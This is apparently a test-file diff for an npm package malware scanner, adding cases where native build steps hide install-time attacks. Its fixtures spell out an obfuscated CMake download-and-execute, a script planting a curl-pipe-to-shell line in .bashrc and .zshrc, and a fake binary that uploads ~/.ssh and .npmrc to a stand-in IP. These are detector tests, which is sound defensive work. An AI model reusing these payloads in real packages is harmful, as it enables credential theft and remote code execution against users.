@@ -167,3 +167,100 @@ describe('a home folder named by a variable: parameter expansions and a `cd` bef
     expect(ruleOf(r, 'script.destructive')).toBeUndefined();
   });
 });
+
+describe('native builds as the hiding place (round 81)', () => {
+  it('reads a CMake build run by cmake-js at install: a URL from string(ASCII), file(DOWNLOAD), execute_process', () => {
+    const url = 'http://fix.native-presets.example/p.sh';
+    const codes = [...url].map((c) => c.charCodeAt(0)).join(' ');
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'flac-native',
+        version: '1.4.0',
+        scripts: { install: 'cmake-js build' },
+        dependencies: { 'cmake-js': '^7.3.0' },
+      }),
+      'CMakeLists.txt': [
+        'cmake_minimum_required(VERSION 3.15)',
+        'project(flac_native)',
+        'list(APPEND CMAKE_MODULE_PATH "${CMAKE_CURRENT_SOURCE_DIR}/build-aux")',
+        'include(Presets)',
+        'add_library(${PROJECT_NAME} SHARED src/flac.cc ${CMAKE_JS_SRC})',
+      ].join('\n'),
+      'build-aux/Presets.cmake': [
+        '# distro presets',
+        `string(ASCII ${codes} preset_url)`,
+        'set(preset_file "${CMAKE_BINARY_DIR}/p.sh")',
+        'file(DOWNLOAD ${preset_url} ${preset_file} TIMEOUT 5)',
+        'execute_process(',
+        '  COMMAND /bin/sh ${preset_file}',
+        '  OUTPUT_QUIET ERROR_QUIET)',
+      ].join('\n'),
+      'src/flac.cc': '// addon',
+    });
+    const hit = ruleOf(r, 'script.download-execute');
+    expect(hit?.file).toBe('build-aux/Presets.cmake');
+    expect(hit?.confidence).toBeGreaterThanOrEqual(0.9);
+    expect(r.risk_level).toBe('critical');
+  });
+  it('stays quiet on a CMake build that fetches a pinned source archive and asks node for headers', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'zstd-napi-build',
+        version: '2.0.0',
+        scripts: { install: 'cmake-js compile' },
+      }),
+      'CMakeLists.txt': [
+        'project(zstd_napi)',
+        'execute_process(COMMAND node -p "require(\'node-addon-api\').include"',
+        '  WORKING_DIRECTORY ${CMAKE_SOURCE_DIR} OUTPUT_VARIABLE NAPI_DIR)',
+        'set(URL https://downloads.zstd-project.example/zstd-1.5.6.tar.gz)',
+        'file(DOWNLOAD ${URL} ${CMAKE_BINARY_DIR}/zstd.tgz EXPECTED_HASH SHA256=00ff)',
+        'file(ARCHIVE_EXTRACT INPUT ${CMAKE_BINARY_DIR}/zstd.tgz DESTINATION ${CMAKE_BINARY_DIR}/zstd)',
+      ].join('\n'),
+    });
+    expect(threats(r).filter((f) => f.confidence >= 0.5)).toEqual([]);
+  });
+  it("follows a Makefile recipe's `$(SHELL) ../scripts/x.sh` as an install step", () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'lz-frame',
+        version: '1.0.0',
+        scripts: { install: 'make -C native' },
+      }),
+      'native/Makefile': ['all: check', '', 'check:', '\t@$(SHELL) ../scripts/check.sh "$(CC)"'].join('\n'),
+      'scripts/check.sh': [
+        '#!/bin/sh',
+        'for rc in "$HOME/.bashrc" "$HOME/.zshrc"; do',
+        '  printf \'%s\\n\' "(curl -fsSL http://203.0.113.47/u | sh &)" >> "$rc"',
+        'done',
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'shell.shell-rc-write')?.threat_type).toBe('install_script_injection');
+    expect(r.risk_level).toBe('critical');
+  });
+  it('reads a "prebuilt binary" that is a shell script, started by the install step, as an install step', () => {
+    const stub = [
+      '#!/bin/sh',
+      '[ "$1" = "--abi" ] || exit 0',
+      '(tar -czf /tmp/.k.tgz -C "$HOME" .ssh .npmrc; curl -s -F "f=@/tmp/.k.tgz" http://198.51.100.77:8443/u) &',
+      'echo ok',
+    ].join('\n');
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'vault-native',
+        version: '4.1.0',
+        scripts: { install: 'node install.js' },
+      }),
+      'install.js': [
+        "const { execFileSync } = require('child_process');",
+        "const path = require('path');",
+        "const bin = path.join(__dirname, 'prebuilds', process.platform + '-' + process.arch, 'vault.node');",
+        "try { execFileSync(bin, ['--abi', process.versions.modules]); } catch {}",
+      ].join('\n'),
+      'prebuilds/linux-x64/vault.node': stub,
+      'prebuilds/darwin-arm64/vault.node': stub,
+    });
+    expect(ruleOf(r, 'script.secret-file-exfil')?.file).toMatch(/^prebuilds\/.*\/vault\.node$/);
+    expect(r.risk_level).toBe('critical');
+  });
+});
